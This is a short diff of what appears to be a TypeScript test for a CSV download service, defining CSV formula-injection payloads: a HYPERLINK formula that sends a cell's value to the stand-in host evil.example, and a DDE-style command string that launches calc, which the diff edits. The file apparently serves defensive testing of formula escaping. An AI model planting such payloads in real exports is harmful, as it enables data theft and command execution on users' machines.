@@ -23,7 +23,7 @@ const THE_WRITER = 'src/server/services/infra/csv-download.ts';
 const THE_REPLY = 'src/server/http/csv-reply.ts';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&E3,"Ver pedido")';
-const COMMAND = "+cmd|' /C calc'!A0";
+const COMMAND = "+cmd' /C calc'!A0";
 
 function sourceFiles(directory: string): string[] {
   return readdirSync(directory, { withFileTypes: true }).flatMap((entry) => {
